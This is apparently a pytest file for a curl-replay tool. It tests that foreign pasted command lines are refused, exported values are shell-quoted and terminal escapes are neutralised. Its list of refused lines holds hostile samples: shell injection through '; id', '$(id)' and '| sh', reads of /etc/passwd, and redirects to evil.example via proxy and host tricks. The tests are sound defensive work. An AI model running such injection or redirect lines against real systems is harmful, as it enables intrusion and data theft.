"""What is sent again is signed again, and is of our own making."""

from __future__ import annotations

import subprocess
from typing import TYPE_CHECKING

import pytest

from gonogo.heard import harmless, little, readable
from gonogo.pasted import refuse_foreign
from gonogo.refill import body_signed
from gonogo.replay import exports
from gonogo.trouble import UsageError

if TYPE_CHECKING:
    from tests.machinery.conftest import Describe

ORDER = """'{"order":"'"$GONOGO_ORDER_ID"'"}'"""
LINE = " && ".join(
    [
        """curl -sS 'https://a/plan' -H 'Cookie: '"$GONOGO_COOKIE\"""",
        f"""curl -sS 'https://a/hook' -H 'Signature: '"$GONOGO_SIGNATURE" --data-raw {ORDER}""",
        """curl -sS 'https://a/hook' -H 'Signature: '"$GONOGO_SIGNATURE" --data-raw second""",
        """curl -sS 'https://a/hook' -H 'Signature: '"$GONOGO_STALE_SIGNATURE" --data-raw third""",
    ]
)


def test_the_first_body_beside_a_signature_is_signed() -> None:
    """The body is the one that will be sent, with its variables filled, and the first that carries this signature."""
    filled = {"GONOGO_COOKIE": "c", "GONOGO_ORDER_ID": "o1"}
    assert body_signed(LINE, filled, "GONOGO_SIGNATURE") == b'{"order":"o1"}'
    assert body_signed(LINE, filled, "GONOGO_STALE_SIGNATURE") == b"third"


OURS = "http://127.0.0.1:1"
GOOD = [
    f"""curl -sS -i -g --path-as-is '{OURS}/me' -H 'Cookie: '"$GONOGO_COOKIE\"""",
    f"""printf '%b%s' 'a\\0012' "$GONOGO_PASSWORD" | curl -sS -X POST '{OURS}/in?a=1' --data-binary @-""",
    f"""{{ printf '%b' 'x'; head -c 4096 /dev/zero | tr '\\0' 'a'; }} | curl -sS '{OURS}' --data-binary @-""",
    f"""for n in $(seq 9); do curl -sS '{OURS}/a' -o /dev/null -w '%{{http_code}}\\n'; done && curl -sS '{OURS}/b'""",
    f"""curl -sS '{OURS}/a' --data-raw 'it'"'"'s; $(id) `id`'"$(printf '\\012')"'.'""",
    f"""curl -sS '{OURS}/a' --data-urlencode 'to=@/etc/passwd'""",
]
BAD = [
    "id",
    f"curl -sS '{OURS}/a'; id",
    f"curl -sS '{OURS}/a' | sh",
    f"curl -sS '{OURS}/a' && id",
    f"""curl -sS '{OURS}/a' --data-raw "$(id)"' '""",
    f"curl -sS '{OURS}/a' --data-raw $(id)",
    f"curl -sS '{OURS}/a' -H '@/etc/passwd'",
    f"curl -sS '{OURS}/a' --data-urlencode 'x@/etc/passwd'",
    f"curl -sS '{OURS}/a' -o '/tmp/x'",
    f"curl -sS '{OURS}/a' --proxy 'http://evil.example'",
    f"curl -sS '{OURS}/a' --connect-to '::evil.example:80'",
    f"curl -sS '{OURS}/a' 'http://evil.example'",
    f"curl -sS '{OURS}@evil.example/'",
    f"curl -sS '{OURS}'1.evil.example/",
    f"curl -sS '{OURS}''.evil.example/'",
    "curl -sS 'http://evil.example/'",
    f"curl -sS '{OURS}/a'\nid",
]


@pytest.mark.parametrize("line", GOOD)
def test_our_own_lines_are_sent(describe: Describe, line: str) -> None:
    """Every form that this program writes is known again."""
    refuse_foreign(line, describe(OURS))


@pytest.mark.parametrize("line", BAD)
def test_what_we_did_not_write_is_refused(describe: Describe, line: str) -> None:
    """A line that does anything else, or goes elsewhere, is not run."""
    with pytest.raises(UsageError, match="is not one that gonogo writes"):
        refuse_foreign(line, describe(OURS))


def test_values_are_quoted() -> None:
    """Whatever a value holds, pasting its export sets it and does nothing else."""
    value = "a'; echo ran; '$(id)"
    shown = subprocess.run(
        ["bash", "-c", exports({"GONOGO_X": value}) + 'printf %s "$GONOGO_X"'],  # noqa: S607  the shell of this machine
        capture_output=True,
        text=True,
        check=True,
    )
    assert shown.stdout == value


def test_a_line_sees_little_of_our_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """Only where programs are, and its own variables."""
    monkeypatch.setenv("GONOGO_OPERATOR", "operator-abcdef")
    assert set(little({"GONOGO_X": "1"})) <= {"PATH", "HOME", "GONOGO_X"}


def test_what_the_target_says_cannot_drive_the_terminal() -> None:
    """Escapes, bells, overrides of the direction and broken UTF-8 are shown, and never sent."""
    said = readable(b"HTTP/1.1 200 OK\r\nx: \x1b]0;title\x07\r\n\r\n\xe2\x80\xae gr\xc3\xbcn \xff\x00")
    assert harmless(said) == "HTTP/1.1 200 OK\nx: \\u{1b}]0;title\\u{7}\n\n\\u{202e} grün \\xff\\u{0}"
